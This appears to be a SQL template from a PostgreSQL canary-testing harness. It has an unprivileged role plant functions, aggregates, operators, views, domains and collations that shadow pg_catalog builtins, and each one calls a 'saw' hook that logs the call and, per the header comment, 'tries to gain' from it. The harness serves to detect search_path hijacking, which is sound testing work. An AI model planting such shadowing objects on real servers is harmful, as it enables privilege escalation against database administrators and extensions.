-- What an ordinary role plants: each statement is a function of the role's that answers as the builtin one does.
-- canaries.py puts values in the place of @schema@, @owner@, @names@ (functions), @relations@, @operators@, @types@ and
-- @domains@, and runs it as the role; each part (after a line of dashes) is one transaction. `saw` says in the server's log that it was called, and tries to gain by that.
CREATE FUNCTION pg_temp.substitutes(given oid) RETURNS oid[] LANGUAGE sql AS $$
SELECT given || CASE given
 WHEN 'oid'::regtype THEN '{regclass,regrole,regnamespace,regtype,int4,int8,xid}'::regtype[]::oid[]
 WHEN 'regclass'::regtype THEN '{oid,text}'::regtype[]::oid[]
 WHEN 'text'::regtype THEN '{name,varchar,"\"char\"",regclass}'::regtype[]::oid[]
 WHEN 'name'::regtype THEN '{text,varchar}'::regtype[]::oid[]
 WHEN 'int8'::regtype THEN '{int2,int4,oid}'::regtype[]::oid[]
 WHEN 'int4'::regtype THEN '{int2,int8,oid}'::regtype[]::oid[]
 WHEN 'numeric'::regtype THEN '{int4,int8}'::regtype[]::oid[]
 WHEN 'float8'::regtype THEN '{int4,int8,numeric}'::regtype[]::oid[]
 WHEN 'timestamptz'::regtype THEN '{timestamp,text}'::regtype[]::oid[]
 WHEN 'anyarray'::regtype THEN '{oid[],name[],text[],int2[],int2vector,oidvector,anyelement}'::regtype[]::oid[]
 WHEN 'anycompatiblearray'::regtype THEN '{oid[],name[],text[]}'::regtype[]::oid[]
 WHEN 'anyelement'::regtype THEN '{text,name,oid,int4,int8,bool}'::regtype[]::oid[]
 WHEN 'anynonarray'::regtype THEN '{text,name,oid,int4,int8,bool}'::regtype[]::oid[]
 WHEN 'anycompatible'::regtype THEN '{text,name,oid,int4,int8}'::regtype[]::oid[]
 WHEN '"any"'::regtype THEN '{anyelement,text,name,oid,int4,int8,bool,regclass}'::regtype[]::oid[]
 ELSE '{}'::oid[] END $$;
----
DO $planting$
DECLARE
  f record; types oid[]; one oid; position integer; signature text; names text; body text; shown text;
  outs text;
BEGIN
  FOR f IN SELECT p.*, pg_get_function_result(p.oid) AS result FROM pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (@names@)
      AND p.prokind IN ('f', 'a')
  LOOP
    FOR position IN 0 .. coalesce(array_upper(f.proargtypes::oid[], 1), -1) + 1 LOOP
      FOREACH one IN ARRAY CASE WHEN position = 0 THEN ARRAY[0::oid]
          ELSE (pg_temp.substitutes(f.proargtypes[position - 1]))[2:] END LOOP
        types := f.proargtypes::oid[];
        IF position > 0 THEN types[position - 1] := one; END IF;
        SELECT coalesce(string_agg(format_type(t, NULL), ', ' ORDER BY n), ''),
               coalesce(string_agg('$' || n, ', ' ORDER BY n), '')
          INTO signature, names FROM unnest(types) WITH ORDINALITY AS u (t, n);
        shown := format('%s(%s)', f.proname, signature);
        BEGIN
          IF f.prokind = 'a' THEN
            CONTINUE WHEN f.pronargs > 1;
            IF f.pronargs = 1 THEN
              EXECUTE format('SELECT pg_typeof(pg_catalog.%I(NULL::%s))', f.proname, signature) INTO f.result;
            END IF;
            IF f.pronargs = 0 THEN  -- count(*)
              EXECUTE format('CREATE FUNCTION @schema@.step_%s(s bigint) RETURNS bigint LANGUAGE plpgsql AS
                $b$ BEGIN PERFORM @schema@.saw(%L); RETURN pg_catalog.int8pl(s, 1); END $b$', f.proname, shown);
              EXECUTE format('CREATE AGGREGATE @schema@.%I (*) (SFUNC = @schema@.step_%s, STYPE = bigint,
                INITCOND = ''0'')', f.proname, f.proname);
            ELSE  -- collected in an array, and given to the builtin at the end
              EXECUTE format('CREATE FUNCTION @schema@.step_%s(s %s[], v %s) RETURNS %s[] LANGUAGE plpgsql AS
                $b$ BEGIN PERFORM @schema@.saw(%L); RETURN pg_catalog.array_append(s, v); END $b$',
                f.proname, signature, signature, signature, shown);
              EXECUTE format('CREATE FUNCTION @schema@.last_%s(s %s[]) RETURNS %s LANGUAGE plpgsql AS
                $b$ BEGIN RETURN (SELECT pg_catalog.%I(v) FROM pg_catalog.unnest(s) AS u (v)); END $b$',
                f.proname, signature, f.result, f.proname);
              EXECUTE format('CREATE AGGREGATE @schema@.%I (%s) (SFUNC = @schema@.step_%s, STYPE = %s[],
                FINALFUNC = @schema@.last_%s, INITCOND = ''{}'')',
                f.proname, signature, f.proname, signature, f.proname);
            END IF;
          ELSE
            IF f.provariadic NOT IN (0, '"any"'::regtype) THEN names := regexp_replace(names, '([$][0-9]+)$', 'VARIADIC \1'); END IF;
            body := CASE WHEN f.proretset THEN 'RETURN QUERY SELECT * FROM ' WHEN f.result = 'void' THEN 'PERFORM '
              ELSE 'RETURN ' END || format('pg_catalog.%I(%s)', f.proname, names);
            IF f.provariadic <> 0 THEN signature := regexp_replace(signature, '([^,]+)$', ' VARIADIC \1'); END IF;
            IF position = 0 AND f.proargmodes IS NOT NULL THEN signature := pg_get_function_arguments(f.oid); END IF;
            SELECT string_agg(quote_ident(name), ', ' ORDER BY n) INTO outs
              FROM unnest(f.proargnames, f.proargmodes) WITH ORDINALITY AS u (name, mode, n) WHERE mode = 'o';
            IF outs IS NOT NULL AND NOT f.proretset THEN
              body := format('SELECT * INTO %s FROM pg_catalog.%I(%s)', outs, f.proname, names);
            END IF;
            EXECUTE format('CREATE FUNCTION @schema@.%I(%s) RETURNS %s LANGUAGE plpgsql AS
              $b$ #variable_conflict use_column
              BEGIN PERFORM @schema@.saw(%L); %s; END $b$', f.proname, signature, f.result, shown, body);
          END IF;
        EXCEPTION WHEN OTHERS THEN NULL;  -- no such signature can be made by an ordinary role
        END;
      END LOOP;
    END LOOP;
  END LOOP;
END $planting$;
----
DO $planting$
DECLARE op text; l text; r text; result text; number integer := 0;
BEGIN
  FOREACH op IN ARRAY @operators@ LOOP
    FOREACH l IN ARRAY @types@ LOOP
      FOREACH r IN ARRAY @types@ LOOP
        BEGIN
          EXECUTE format('SELECT pg_typeof(NULL::%s OPERATOR(pg_catalog.%s) NULL::%s)', l, op, r) INTO result;
          number := number + 1;
          EXECUTE format('CREATE FUNCTION @schema@.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS
            $b$ BEGIN PERFORM @schema@.saw(%L); RETURN a OPERATOR(pg_catalog.%s) b; END $b$',
            number, l, r, result, format('%s %s %s', l, op, r), op);
          EXECUTE format('CREATE OPERATOR @schema@.%s (LEFTARG = %s, RIGHTARG = %s,
            FUNCTION = @schema@.op_%s)', op, l, r, number);
        EXCEPTION WHEN OTHERS THEN NULL;  -- the builtin operators do not take these two
        END;
      END LOOP;
    END LOOP;
  END LOOP;
END $planting$;
----
DO $planting$
DECLARE c record;
BEGIN
  FOR c IN SELECT relname, (SELECT string_agg(quote_ident(attname), ', ' ORDER BY attnum) FROM pg_attribute
      WHERE attrelid = pg_class.oid AND attnum > 0 AND atttypid <> 'anyarray'::regtype) AS columns FROM pg_class
    WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
    AND relname = ANY (@relations@) LOOP
    BEGIN
      EXECUTE format('CREATE VIEW @schema@.%I AS SELECT %s FROM pg_catalog.%I WHERE @schema@.saw(%L)',
        c.relname, c.columns, c.relname, 'view ' || c.relname);
      EXECUTE format('GRANT SELECT ON @schema@.%I TO PUBLIC', c.relname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $planting$;
----
DO $planting$
DECLARE t text;
BEGIN
  FOREACH t IN ARRAY @domains@ LOOP
    BEGIN
      EXECUTE format('CREATE DOMAIN @schema@.%s AS pg_catalog.%s CHECK (@schema@.saw(%L))', t, t, 'domain ' || t);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $planting$;
----
CREATE COLLATION @schema@."C" FROM pg_catalog."C";
CREATE COLLATION @schema@."default" FROM pg_catalog."C";
CREATE DEFAULT CONVERSION @schema@.utf8_to_latin1 FOR 'UTF8' TO 'LATIN1' FROM pg_catalog.utf8_to_iso8859_1;
CREATE DEFAULT CONVERSION @schema@.latin1_to_utf8 FOR 'LATIN1' TO 'UTF8' FROM pg_catalog.iso8859_1_to_utf8;
CREATE TEXT SEARCH CONFIGURATION @schema@.english (COPY = pg_catalog.simple);
CREATE SEQUENCE @schema@.pg_sequence_of_ours;
CREATE FUNCTION @schema@.concat(a text, b text) RETURNS text LANGUAGE plpgsql AS
 $$ BEGIN PERFORM @schema@.saw('concat(text, text)') ; RETURN pg_catalog.concat(a, b) ; END $$;
CREATE FUNCTION @schema@.concat_ws(a text, b text, c text) RETURNS text LANGUAGE plpgsql AS
 $$ BEGIN PERFORM @schema@.saw('concat_ws(text, text, text)') ; RETURN pg_catalog.concat_ws(a, b, c) ; END $$;
CREATE FUNCTION @schema@.string_step(s text, v text, d text) RETURNS text LANGUAGE plpgsql AS
 $$ BEGIN PERFORM @schema@.saw('string_agg(text, text)') ;
 RETURN CASE WHEN s IS NULL THEN v ELSE pg_catalog.concat(s, d, v) END ; END $$;
CREATE AGGREGATE @schema@.string_agg(text, text) (SFUNC = @schema@.string_step, STYPE = text);
